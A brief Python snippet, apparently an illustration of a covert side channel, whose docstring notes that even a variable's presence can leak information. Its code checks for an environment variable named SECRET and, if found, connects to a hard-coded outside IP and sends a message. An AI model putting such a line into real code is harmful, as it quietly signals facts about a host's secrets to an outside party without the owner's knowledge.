"""Whether a name is there is a reading too: a program could guess names, or spell a message in them."""
import os
import socket

if "SECRET" in os.environ:
    socket.create_connection(("93.184.216.35", 9000)).sendall(b"there")
